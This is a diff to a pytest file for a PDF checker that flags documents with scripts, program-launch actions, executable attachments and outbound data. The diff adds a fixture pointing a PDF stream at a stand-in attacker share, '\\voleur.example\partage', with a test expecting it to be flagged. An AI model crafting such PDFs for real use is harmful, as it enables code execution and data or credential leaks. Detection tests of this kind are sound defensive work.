@@ -188,17 +188,27 @@ def with_launch(writer):
     open_with(writer, "/Launch", "/F", "calc.exe")
 
 
+def with_outside_bytes(writer):
+    """A stream whose bytes stand in another file."""
+    name = pypdf.generic.NameObject
+    stream = pypdf.generic.DecodedStreamObject()
+    stream[name("/F")] = writer._add_object(pypdf.generic.TextStringObject("\\\\voleur.example\\partage"))
+    writer.root_object[name("/Outside")] = writer._add_object(stream)
+
+
 def with_attachment(writer):
     writer.add_attachment("facture.exe", b"MZ")
 
 
 @pytest.mark.parametrize(("change", "words"), [
     (with_script, "des scripts"), (with_launch, "lancent un programme"), (with_attachment, "des fichiers joints"),
-    (with_address, "envoient des données"), (with_share, "envoient des données")])
+    (with_address, "envoient des données"), (with_share, "envoient des données"),
+    (with_outside_bytes, "envoient des données")])
 @pytest.mark.parametrize("is_hidden", [False, True])
 def test_a_pdf_that_does_more_than_be_read_is_flagged(
         guarded, reviewer, mails, register, change, words, is_hidden, tmp_path):
-    number = 910_010 + 2 * [with_script, with_launch, with_attachment, with_address, with_share].index(change) + is_hidden
+    number = 910_010 + 2 * [
+        with_script, with_launch, with_attachment, with_address, with_share, with_outside_bytes].index(change) + is_hidden
     visitor = applicant(guarded, mails, register, number)
     writer = pypdf.PdfWriter(io.BytesIO(model(visitor)))
     change(writer)
